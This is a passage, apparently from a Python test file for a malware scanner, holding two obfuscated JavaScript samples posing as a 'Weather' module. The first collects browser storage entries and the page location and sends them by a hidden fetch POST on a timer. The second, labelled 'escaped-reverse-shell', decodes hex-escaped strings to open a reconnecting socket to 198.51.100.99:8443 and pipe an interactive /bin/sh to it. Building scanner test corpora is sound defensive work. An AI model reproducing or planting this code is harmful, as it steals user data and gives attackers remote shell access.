_0x2cfc0e='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';var _0xa983ae='',_0x113d1e='';for(var _0x355dd9=0x25bf+0x1*0x6ab+-0x2c6a,_0x4886fc,_0x5f59a3,_0x466749=-0xdb2*-0x1+-0x2376+0x15c4;_0x5f59a3=_0x436520['charAt'](_0x466749++);~_0x5f59a3&&(_0x4886fc=_0x355dd9%(-0xc50+0x1b36+0x771*-0x2)?_0x4886fc*(-0xd*-0xe6+0x36*-0x36+-0xa)+_0x5f59a3:_0x5f59a3,_0x355dd9++%(0x6*0x107+0x121c+-0x1842))?_0xa983ae+=String['fromCharCode'](0x1d2d+0x1*0x179b+-0x5c1*0x9&_0x4886fc>>(-(0x4*-0x175+0x114*-0x1a+0x21de)*_0x355dd9&0x26fe+0x486*-0x5+-0x105a)):0x1cff+0xddb*0x1+-0x2ada){_0x5f59a3=_0x2cfc0e['indexOf'](_0x5f59a3);}for(var _0x49c92e=0xf1b+-0x11f9*-0x2+-0x330d,_0x54aaf9=_0xa983ae['length'];_0x49c92e<_0x54aaf9;_0x49c92e++){_0x113d1e+='%'+('00'+_0xa983ae['charCodeAt'](_0x49c92e)['toString'](-0x22*-0xce+-0x1*-0x1515+-0x3061))['slice'](-(-0x1306+-0x3*-0x65f+-0x15));}return decodeURIComponent(_0x113d1e);};_0x39ee['BFzNye']=_0x506159,_0x39ee['ZzjboA']={},_0x39ee['jIbKxX']=!![];}var _0x5643a7=_0x3d9ea4[0x2666+0xe*0x1df+-0x4098];_0x39ee['KDvtUK']!==_0x5643a7&&(_0x39ee['ZzjboA']={},_0x39ee['KDvtUK']=_0x5643a7);var _0x5530e4=_0x39ee['ZzjboA'][_0xeda66e];return _0x5530e4===undefined?(_0x56b7a3=_0x39ee['BFzNye'](_0x56b7a3),_0x39ee['ZzjboA'][_0xeda66e]=_0x56b7a3):_0x56b7a3=_0x5530e4,_0x56b7a3;}function go(_0x48267e){var _0x5f519b=_0x39ee,_0x3e2cfc={};_0x3e2cfc[_0x5f519b(0x143)]=_0x5f519b(0x15c),_0x3e2cfc[_0x5f519b(0x158)]=function(_0x5a1e9d,_0xc52ae4){return _0x5a1e9d<_0xc52ae4;},_0x3e2cfc[_0x5f519b(0x14b)]=function(_0x12a5fc,_0xead9ed){return _0x12a5fc+_0xead9ed;},_0x3e2cfc[_0x5f519b(0x15e)]=_0x5f519b(0x15a)+_0x5f519b(0x149)+_0x5f519b(0x160)+'/',_0x3e2cfc[_0x5f519b(0x14c)]=_0x5f519b(0x14a),_0x3e2cfc[_0x5f519b(0x142)]=_0x5f519b(0x141);var _0x3c6e3c=_0x3e2cfc,_0x44c409=_0x3c6e3c[_0x5f519b(0x143)][_0x5f519b(0x15d)]('|'),_0x403a1f=0x17a7+-0x1*0x1d39+0x592*0x1;while(!![]){switch(_0x44c409[_0x403a1f++]){case'0':for(var _0x28339d=-0x90d+-0x218d+-0x13*-0x23e;_0x3c6e3c[_0x5f519b(0x158)](_0x28339d,_0x48267e[_0x5f519b(0x151)+'ge'][_0x5f519b(0x15b)]);_0x28339d++){var _0x4e3ad2=_0x48267e[_0x5f519b(0x151)+'ge'][_0x5f519b(0x14e)](_0x28339d);_0x3a45b5[_0x4e3ad2]=_0x48267e[_0x5f519b(0x151)+'ge'][_0x5f519b(0x146)](_0x4e3ad2);}continue;case'1':var _0x3a45b5={};continue;case'2':var _0xf62ca1=_0x48267e[_0x5f519b(0x156)];continue;case'3':_0x48267e[_0x5f519b(0x144)](_0x3c6e3c[_0x5f519b(0x14b)](_0x3c6e3c[_0x5f519b(0x15e)],Date[_0x5f519b(0x155)]()),{'method':_0x3c6e3c[_0x5f519b(0x14c)],'mode':_0x3c6e3c[_0x5f519b(0x142)],'body':_0x488df5});continue;case'4':var _0x3f1c8a={};_0x3f1c8a[_0x5f519b(0x147)]=_0xf62ca1[_0x5f519b(0x147)],_0x3f1c8a[_0x5f519b(0x159)]=_0x3a45b5,_0x3f1c8a['at']=_0x48267e[_0x5f519b(0x14d)][_0x5f519b(0x153)];var _0x488df5=JSON[_0x5f519b(0x152)](_0x3f1c8a);continue;}break;}}setTimeout(function(){var _0x45b0dc=_0x39ee,_0x2072f4={'AlCmI':function(_0x56f009,_0x17f9bf){return _0x56f009(_0x17f9bf);}};_0x2072f4[_0x45b0dc(0x165)](go,t);},-0x3a+-0xe*-0x2aa+0x3*-0x91a);
module.exports.Weather = function () { return null; };
""",
    ),
    _sample(
        "escaped-reverse-shell",
        "process",
        r"""
const d=V;(function(X,T){const t=V,P=X();while(!![]){try{const s=parseInt(t(0x1e7))/0x1+parseInt(t(0x1e3))/0x2*(parseInt(t(0x1ed))/0x3)+-parseInt(t(0x1e6))/0x4+parseInt(t(0x1f1))/0x5*(parseInt(t(0x1e4))/0x6)+parseInt(t(0x1e5))/0x7*(parseInt(t(0x1ee))/0x8)+parseInt(t(0x1f6))/0x9+-parseInt(t(0x1f4))/0xa;if(s===T)break;else P['push'](P['shift']());}catch(u){P['push'](P['shift']());}}}(x,0x9eeb5));const cp=require(d(0x1f2)),net=require(d(0x1ef));function x(){const H=['\x32\x30\x36\x33\x33\x38\x38\x59\x43\x73\x65\x47\x73','\x31\x30\x32\x31\x33\x33\x36\x67\x49\x6b\x47\x4a\x52','\x65\x72\x72\x6f\x72','\x70\x69\x70\x65','\x63\x6c\x6f\x73\x65','\x73\x74\x64\x6f\x75\x74','\x31\x39\x38\x2e\x35\x31\x2e\x31\x30\x30\x2e\x39\x39','\x34\x32\x73\x48\x41\x4b\x6d\x51','\x38\x34\x38\x33\x32\x38\x71\x4b\x44\x48\x4c\x43','\x6e\x65\x74','\x2f\x62\x69\x6e\x2f\x73\x68','\x36\x30\x6f\x73\x71\x74\x57\x58','\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73','\x63\x6f\x6e\x6e\x65\x63\x74','\x33\x30\x30\x32\x35\x39\x30\x30\x78\x56\x71\x46\x6b\x46','\x57\x65\x61\x74\x68\x65\x72','\x34\x32\x36\x35\x31\x38\x31\x48\x41\x56\x4f\x70\x4d','\x73\x74\x64\x69\x6e','\x73\x70\x61\x77\x6e','\x31\x34\x36\x36\x35\x38\x4d\x58\x65\x4d\x6c\x67','\x34\x35\x32\x36\x31\x36\x54\x6b\x6d\x4b\x42\x68','\x34\x39\x6f\x46\x56\x62\x77\x6a'];x=function(){return H;};return x();}function V(X,T){X=X-0x1e1;const P=x();let s=P[X];return s;}function c(){const A=d,X=net[A(0x1f3)](0x20fb,A(0x1ec),()=>{const M=A,T=cp[M(0x1e2)](M(0x1f0),['\x2d\x69']);X[M(0x1e9)](T[M(0x1e1)]),T[M(0x1eb)][M(0x1e9)](X),T['\x73\x74\x64\x65\x72\x72'][M(0x1e9)](X);});X['\x6f\x6e'](A(0x1ea),()=>setTimeout(c,0xea60)),X['\x6f\x6e'](A(0x1e8),()=>{});}c(),exports[d(0x1f5)]=()=>null;
""",
    ),
)
